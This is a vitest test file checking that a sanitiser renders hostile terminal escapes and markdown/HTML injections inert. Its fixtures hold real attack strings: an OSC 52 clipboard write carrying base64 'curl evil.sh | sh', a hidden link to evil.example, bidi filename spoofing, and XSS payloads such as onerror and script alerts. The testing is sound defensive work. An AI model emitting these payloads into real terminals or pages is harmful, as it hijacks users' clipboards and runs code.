import { describe, expect, it } from 'vitest';
import { hasUnsafeText, inert, inertJson } from '../../lib/io/inert.ts';
import { createOutput } from '../../lib/io/output.ts';
import { mdText } from '../../lib/io/report.ts';

/** The escape families a job row, a log line or a process name can carry into the operator's terminal. */
const HOSTILE = {
  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  'clear the screen': '\x1b[2J\x1b[H',
  'OSC 8 hidden link': '\x1b]8;;https://evil.example/\x1b\\innocent\x1b]8;;\x1b\\',
  'window title': '\x1b]0;owned\x07',
  'C1 CSI (one character)': '\u009b31mred',
  'carriage return overwrite': 'safe text\rEVIL',
  'bidi override': 'job\u202Efdp.exe',
  'backspace rewrite': 'ok\b\b\bno',
  'DEL and NUL': 'a\x7fb\x00c',
};

describe('inert', () => {
  it.each(Object.entries(HOSTILE))('shows %s instead of sending it', (_name, text) => {
    const shown = inert(text);
    expect(hasUnsafeText(shown)).toBe(false);
    // Nothing a terminal acts on is left: no ESC, no C0 but tab/newline, no C1, no bidi control.
    expect(shown).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(hasUnsafeText(text)).toBe(true);
  });

  it('uses caret notation for C0, \\u escapes for C1, <U+…> for bidi', () => {
    expect(inert('\x1b[2J')).toBe('^[[2J');
    expect(inert('bell\x07')).toBe('bell^G');
    expect(inert('\u009b31m')).toBe('\\u009b31m');
    expect(inert('a\u202Eb')).toBe('a<U+202E>b');
    expect(inert('a\x7fb')).toBe('a^?b');
  });

  it('keeps newlines, tabs and ordinary Unicode; CRLF becomes a newline, a lone CR is shown', () => {
    expect(inert('line 1\r\nline 2\tx ✔ ü 日本')).toBe('line 1\nline 2\tx ✔ ü 日本');
    expect(inert('50%\rdone')).toBe('50%^Mdone');
  });

  it('can be cut anywhere without leaving half a sequence live', () => {
    const shown = inert(Object.values(HOSTILE).join(' '));
    for (let i = 0; i <= shown.length; i++) expect(hasUnsafeText(shown.slice(0, i))).toBe(false);
  });
});

describe('inertJson', () => {
  it('escapes C1 and bidi characters, and the JSON value stays the same', () => {
    const value = { error: `x\u009b2Jy\u202Ez\x1b]52;c;AA==\x07` };
    const text = inertJson(JSON.stringify(value));
    expect(hasUnsafeText(text)).toBe(false);
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('the output port', () => {
  it('prints hostile text from a finding, a check and a line inert, and keeps its own colours', () => {
    const written: string[] = [];
    const out = createOutput({ write: (t) => written.push(t), color: true, spinner: false, verbose: true });
    const evil = HOSTILE['OSC 52 clipboard write'];
    out.line(`job_type ${evil}`);
    out.heading(`heading ${evil}`);
    out.check({
      id: 'c',
      title: `t${evil}`,
      status: 'failed',
      summary: `s${evil}`,
      details: [`d${evil}`],
      fix: `f${evil}`,
    });
    out.finding(
      { id: 'x', severity: 'critical', title: `T${evil}`, evidence: [`e${evil}`], cause: `c${evil}`, fix: `f${evil}` },
      0,
    );
    const text = written.join('');
    expect(text).not.toContain('\x1b]');
    expect(text).not.toContain('\x07');
    expect(text.match(/\^\[\]52;c;/g)).toHaveLength(10);
    // The port's own styling is the only escape left.
    expect(text.replace(/\x1b\[\d+m/g, '')).not.toContain('\x1b');
  });
});

describe('mdText', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', /<img/],
    ['</details><script>alert(1)</script>', /<\/details>|<script>/],
    ['[click](javascript:alert(1))', /\[click\]\(javascript/],
    ['```\nfenced\n```', /```/],
    ['a | b', /[^\\]\|/],
  ])('keeps %j as text', (text, live) => {
    expect(mdText(text)).not.toMatch(live);
  });
});
